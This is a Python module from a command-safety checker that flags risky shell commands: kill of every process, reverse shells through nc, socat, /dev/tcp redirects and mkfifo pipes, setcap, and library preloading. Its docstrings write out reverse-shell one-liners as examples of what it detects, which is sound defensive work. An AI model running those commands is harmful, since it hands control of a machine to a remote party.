"""Effects on processes and on what a network connection may run: what the rule packs cannot say as data."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from askfirst.effects import Risk
from askfirst.shell.found import effect_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Sequence

    from askfirst.effects import Effect
    from askfirst.facts import Facts
    from askfirst.rules.book import RuleBook
    from askfirst.shell.command import Command

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish"})
_SHELL_NAME = re.compile(r"(?:^|/|[:,'\" ])(?:ba|z|da|k|a|fi)?sh\b|cmd(?:\.exe)?\b|powershell", re.IGNORECASE)
_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/]+)/")
_LOCAL = re.compile(r"(?:localhost|127(?:\.\d+){3}|::1|0\.0\.0\.0)\Z")


def kill_effects(command: Command, _facts: Facts, rules: RuleBook) -> Iterator[Effect]:
    """The effects of ``kill``: everything, process 1, or single processes."""
    targets = _kill_targets([word.text for word in command.args])
    if "-1" in targets:
        yield effect_of(rules, "system.kill-everything", command, target="every process that this user may signal")
    elif "1" in targets:
        yield effect_of(
            rules, "system.kill-everything", command, target="process 1: the machine or container goes down"
        )


def _kill_targets(words: list[str]) -> list[str]:
    """The process ids: the first word may be a signal (``-9``, ``-s TERM``), ``--`` ends the options."""
    if any(word in {"-l", "-L", "--list", "--table"} for word in words[:1]):
        return []
    if words[:1] and words[0] in {"-s", "-n", "--signal"}:
        words = words[2:]
    elif len(words) > 1 and words[0].startswith("-") and words[0] != "--":
        words = words[1:]
    return [word for word in words if word != "--"]


def network_shell_effects(command: Command, _facts: Facts, rules: RuleBook) -> Iterator[Effect]:
    """The effect of handing a shell to the network: ``nc -e``, ``socat EXEC:``, ``bash -i >& /dev/tcp/…``."""
    texts = [word.text for word in command.args]
    if command.program in {"nc", "ncat", "netcat", "nc.traditional"}:
        gives = any(
            text in {"--exec", "--sh-exec", "--lua-exec"} or re.fullmatch(r"-[a-zA-Z]*[ec]", text) for text in texts
        ) and any(_SHELL_NAME.search(text) for text in texts)
    elif command.program == "socat":
        gives = any(re.match(r"(?:exec|system|shell):", text, re.IGNORECASE) for text in texts) and any(
            re.search(r"\b(?:tcp|udp|openssl|sctp)[46]?(?:-listen|-connect)?:", text, re.IGNORECASE) for text in texts
        )
    else:
        gives = command.program in _SHELLS and _is_to_network(command)
    if gives:
        yield effect_of(rules, "execution.reverse-shell", command, target="a network connection")


def _is_to_network(command: Command) -> bool:
    hosts = (match.group(1) for each in command.redirects if (match := _TCP.match(each.target.text)))
    return any(not _LOCAL.match(host) for host in hosts)


def capability_effects(command: Command, _facts: Facts, rules: RuleBook) -> Iterator[Effect]:
    """The effect of ``setcap``."""
    operands = [word.text for word in command.args if not word.text.startswith("-")]
    if len(operands) >= 2 and operands[0] != "-r":
        harmless = re.fullmatch(r"(?:(?:cap_net_bind_service|cap_net_raw),?)+[=+][eip+]*", operands[0].lower())
        risk = Risk.MEDIUM if harmless else Risk.HIGH
        yield effect_of(rules, "execution.capability", command, target=operands[-1], risk=risk)


def preload_effects(command: Command, _facts: Facts, rules: RuleBook) -> Iterator[Effect]:
    """The effect of a library that is loaded into the program by its environment."""
    for name in ("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES"):
        if name in command.env:
            target = command.env[name].text
            risk = Risk.HIGH if target.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")) else None  # noqa: S108  # recognised
            yield effect_of(rules, "execution.preload", command, target=target, risk=risk)


def line_network_shell_effects(commands: Sequence[Command], rules: RuleBook) -> Iterator[Effect]:
    """The effect of a shell and a network program joined by pipes (``mkfifo f; cat f | sh -i | nc h p > f``)."""
    senders = [
        command for command in commands if command.program in {"nc", "ncat", "netcat", "telnet", "openssl", "socat"}
    ]
    talks = [command for command in senders if command.stdin.kind != "none" and _is_remote(command)]
    interactive = any(
        command.program in _SHELLS and "-i" in {word.text for word in command.args} for command in commands
    )
    opened = [
        command
        for command in commands
        if command.program == "exec"
        and _is_to_network(command)
        and any(each.operator == "<>" for each in command.redirects)
    ]
    for command in [*(talks if interactive else []), *opened]:
        yield effect_of(
            rules,
            "execution.reverse-shell",
            command,
            target="a network connection",
            risk=None if interactive else Risk.HIGH,
        )


def _is_remote(command: Command) -> bool:
    operands = [word.text for word in command.args if not word.text.startswith("-")]
    return bool(operands) and not _LOCAL.match(operands[0])


SYSTEM_HANDLERS: dict[str, Callable[[Command, Facts, RuleBook], Iterable[Effect]]] = {
    "kill": kill_effects,
    "setcap": capability_effects,
}
"""By program; ``network_shell_effects`` and ``preload_effects`` look at every command."""
